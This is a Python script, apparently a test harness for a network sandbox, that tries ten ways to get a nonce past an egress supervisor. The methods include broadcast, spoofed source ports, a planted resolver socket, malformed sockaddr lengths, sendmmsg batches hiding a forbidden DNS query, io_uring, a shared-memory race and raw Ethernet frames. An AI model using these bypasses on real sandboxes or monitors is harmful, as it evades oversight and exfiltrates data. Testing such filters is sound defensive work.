#!/usr/bin/python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Sends a word by the calls that a supervisor of calls overlooks, and to who is not one address.

sockets.py multicast NONCE PORT GROUP...     to groups and broadcast addresses
sockets.py from PORT TO PORT NONCE           a datagram from that port
sockets.py mapped NAME PORT NONCE            a connection to the v4-mapped address that NAME has
sockets.py varlink | ask NAME                a daemon that resolves for whoever asks on its socket; asking it
sockets.py long TO PORT NONCE                connect() with an address length of 128
sockets.py unspec TO PORT NONCE              sendto() with the family AF_UNSPEC
sockets.py mmsg NONCE                        sendmmsg(): an allowed and a forbidden question; an allowed and a forbidden address
sockets.py uring TO PORT NONCE               socket, connect and send by io_uring
sockets.py race TO OTHER PORT NONCE          connect() while another process writes the address in shared memory
sockets.py frame NONCE                       a datagram to the attacker as an Ethernet frame of our own
"""
import ctypes
import json
import mmap
import os
import signal
import socket
import struct
import sys
import time

LIBC = ctypes.CDLL(None, use_errno=True)
VARLINK = "/run/systemd/resolve/io.systemd.Resolve"


def datagram(family=socket.AF_INET):
    sock = socket.socket(family, socket.SOCK_DGRAM)
    sock.settimeout(0.3)
    return sock


def hear(sock):
    try:
        print(sock.recv(4096)[:60])
    except OSError as error:
        print(error)


def sockaddr(to, port):
    return struct.pack("=H", socket.AF_INET) + struct.pack(">H", int(port)) + socket.inet_aton(to) + bytes(8)


def multicast(nonce, port, *groups):
    for group in groups:
        sock = datagram(socket.AF_INET6 if ":" in group else socket.AF_INET)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        to = (group, int(port), 0, next(i for i, n in socket.if_nameindex() if n != "lo")) if ":" in group else (group, int(port))
        try:
            sock.sendto(nonce.encode(), to)
        except OSError as error:
            print(error)


def from_port(own, to, port, nonce):
    sock = datagram()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind(("", int(own)))
    sock.sendto(nonce.encode(), (to, int(port)))
    hear(sock)


def mapped(name, port, nonce):
    for found in socket.getaddrinfo(name, int(port), socket.AF_INET6, socket.SOCK_STREAM):
        sock = socket.socket(socket.AF_INET6)
        sock.settimeout(20)
        sock.connect(found[4])
        sock.sendall(nonce.encode())
        hear(sock)


def varlink():
    os.makedirs(os.path.dirname(VARLINK), exist_ok=True)
    if os.path.exists(VARLINK):
        os.unlink(VARLINK)
    server = socket.socket(socket.AF_UNIX)
    server.bind(VARLINK)
    os.chmod(VARLINK, 0o666)
    server.listen()
    while True:
        client = server.accept()[0]
        name = json.loads(client.recv(4096).rstrip(b"\0"))["parameters"]["name"]
        try:
            found = [a[4][0] for a in socket.getaddrinfo(name, None, socket.AF_INET, socket.SOCK_STREAM)]
        except OSError:
            found = []
        client.send(json.dumps({"parameters": {"addresses": found}}).encode() + b"\0")


def ask(name):
    sock = socket.socket(socket.AF_UNIX)
    sock.settimeout(20)
    sock.connect(VARLINK)
    sock.send(json.dumps({"method": "io.systemd.Resolve.ResolveHostname", "parameters": {"name": name}}).encode() + b"\0")
    hear(sock)


def call(function, *args):
    result = function(*args)
    if result < 0:
        print(function.__name__, os.strerror(ctypes.get_errno()))
    return result


def long_address(to, port, nonce):
    sock = socket.socket()
    call(LIBC.connect, sock.fileno(), sockaddr(to, port).ljust(128, b"\0"), 128)
    try:
        sock.sendall(nonce.encode())
    except OSError as error:
        print(error)


def unspec(to, port, nonce):
    sock, word = datagram(), nonce.encode()
    call(LIBC.sendto, sock.fileno(), word, len(word), 0, b"\0\0" + sockaddr(to, port)[2:], 16)
    hear(sock)


class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_char_p), ("len", ctypes.c_size_t)]


class Message(ctypes.Structure):
    _fields_ = [("name", ctypes.c_char_p), ("namelen", ctypes.c_uint32), ("iov", ctypes.POINTER(Iovec)), ("iovlen", ctypes.c_size_t),
                ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t), ("flags", ctypes.c_int)]  # fmt: skip


class Mmsg(ctypes.Structure):
    _fields_ = [("head", Message), ("sent", ctypes.c_uint)]


def mmsg(nonce):
    def query(name):
        labels = b"".join(bytes([len(label)]) + label for label in name.encode().split(b"."))
        return struct.pack(">HH4H", os.getpid() & 0xFFFF, 0x0100, 1, 0, 0, 0) + labels + b"\0\0\1\0\1"

    batch = [("198.18.2.53", 53, query("allowed.test")), ("198.18.2.53", 53, query(nonce + ".evil.test")), ("198.18.3.66", 9999, nonce.encode())]
    messages = (Mmsg * len(batch))()
    for at, (to, port, data) in zip((m.head for m in messages), batch):
        at.name, at.namelen, at.iov, at.iovlen = sockaddr(to, port), 16, ctypes.pointer(Iovec(data, len(data))), 1
    sock = datagram()
    print(call(LIBC.sendmmsg, sock.fileno(), messages, len(batch), 0))
    for _ in batch:
        hear(sock)


class Ring:
    """The least of io_uring: one submission at a time.  include/uapi/linux/io_uring.h"""

    def __init__(self):
        params = ctypes.create_string_buffer(120)
        self.fd = call(LIBC.syscall, 425, 8, params)
        if self.fd < 0:
            sys.exit(1)
        words = struct.unpack("=30I", params.raw)
        self.sq_tail, self.sq_mask, self.sq_array = words[11], words[12], words[16]
        self.cq_head, self.cq_tail, self.cq_mask, self.cqes = words[20], words[21], words[22], words[25]
        self.sq = mmap.mmap(self.fd, self.sq_array + words[0] * 4, mmap.MAP_SHARED, offset=0)
        self.cq = mmap.mmap(self.fd, self.cqes + words[1] * 16, mmap.MAP_SHARED, offset=0x8000000)
        self.sqes = mmap.mmap(self.fd, words[0] * 64, mmap.MAP_SHARED, offset=0x10000000)

    def word(self, ring, at, value=None):
        if value is not None:
            ring[at : at + 4] = struct.pack("=I", value)
        return struct.unpack("=I", ring[at : at + 4])[0]

    def submit(self, opcode, fd, off=0, addr=0, size=0):
        tail = self.word(self.sq, self.sq_tail)
        at = tail & self.word(self.sq, self.sq_mask)
        self.sqes[at * 64 : at * 64 + 64] = struct.pack("=BBHiQQII", opcode, 0, 0, fd, off, addr, size, 0).ljust(64, b"\0")
        self.word(self.sq, self.sq_array + at * 4, at)
        self.word(self.sq, self.sq_tail, tail + 1)
        call(LIBC.syscall, 426, self.fd, 1, 1, 1, None, 0)
        head = self.word(self.cq, self.cq_head)
        where = self.cqes + (head & self.word(self.cq, self.cq_mask)) * 16
        result = struct.unpack("=i", self.cq[where + 8 : where + 12])[0]
        self.word(self.cq, self.cq_head, head + 1)
        return result


def uring(to, port, nonce):
    ring, address, word = Ring(), ctypes.create_string_buffer(sockaddr(to, port), 16), ctypes.create_string_buffer(nonce.encode())
    fd = ring.submit(45, socket.AF_INET, socket.SOCK_STREAM)  # IORING_OP_SOCKET, Linux 5.19
    if fd < 0:
        fd = socket.socket().detach()
    print("connect", ring.submit(16, fd, 16, ctypes.addressof(address)))
    print("send", ring.submit(26, fd, 0, ctypes.addressof(word), len(nonce)))
    time.sleep(0.05)


def race(to, other, port, nonce):
    """Some of the connects reach one address, some the other, whatever a supervisor read before."""
    page = mmap.mmap(-1, 4096)
    page[:16] = sockaddr(to, port)
    flipper = os.fork()
    signal.alarm(0 if flipper else 60)
    while flipper == 0:  # beside us, in the same memory
        page[4:8] = socket.inet_aton(other)
        page[4:8] = socket.inet_aton(to)
    address, hits, end = ctypes.c_char.from_buffer(page), 0, time.monotonic() + 20
    while hits < 3 and time.monotonic() < end:
        sock = socket.socket()
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack("ll", 0, 300000))
        try:
            if call(LIBC.connect, sock.fileno(), ctypes.byref(address), 16) < 0:
                hits += 1  # refused
            elif sock.getpeername()[0] == other:
                hits += 1
                sock.sendall(nonce.encode())
        except OSError as error:
            print(error)
        sock.close()
    os.kill(flipper, signal.SIGKILL)
    os.waitpid(flipper, 0)
    print(hits)


def checksum(data):
    total = sum(struct.unpack(">%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def frame(nonce):
    """AF_PACKET skips the output hook of its own network namespace."""
    interface = next(n for _, n in socket.if_nameindex() if n != "lo")
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x800))
    raw.bind((interface, 0x800))
    probe = datagram()
    probe.connect(("198.18.3.66", 9999))
    own = probe.getsockname()[0]
    body = struct.pack(">HHHH", 4000, 9999, 8 + len(nonce), 0) + nonce.encode()
    ip = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(body), 7, 0, 64, 17, 0) + socket.inet_aton(own) + socket.inet_aton("198.18.3.66")
    ip = ip[:10] + struct.pack(">H", checksum(ip)) + ip[12:]
    for _ in range(2):
        raw.sendto(ip + body, (interface, 0x800, 0, 0, b"\xff" * 6))
        raw.sendto(ip + body, (interface, 0x800, 0, 0, gateway(interface)))


def gateway(interface):
    """The MAC address of the gateway: something was sent to it before."""
    sock = datagram()
    for line in open("/proc/net/route", encoding="ascii"):
        words = line.split()
        if words[0] == interface and words[1] == "00000000":
            sock.sendto(b"", (socket.inet_ntoa(struct.pack("=I", int(words[2], 16))), 9))
    end = time.monotonic() + 5
    while time.monotonic() < end:
        time.sleep(0.05)
        for line in open("/proc/net/arp", encoding="ascii"):
            words = line.split()
            if words[-1] == interface and words[3] != "00:00:00:00:00:00":
                return bytes.fromhex(words[3].replace(":", ""))
    return b"\xff" * 6


COMMANDS = {f.__name__: f for f in (multicast, mapped, varlink, ask, unspec, mmsg, uring, race, frame)}
COMMANDS |= {"from": from_port, "long": long_address}

if __name__ == "__main__":
    try:
        COMMANDS[sys.argv[1]](*sys.argv[2:])
    except OSError as error:
        sys.exit(str(error))
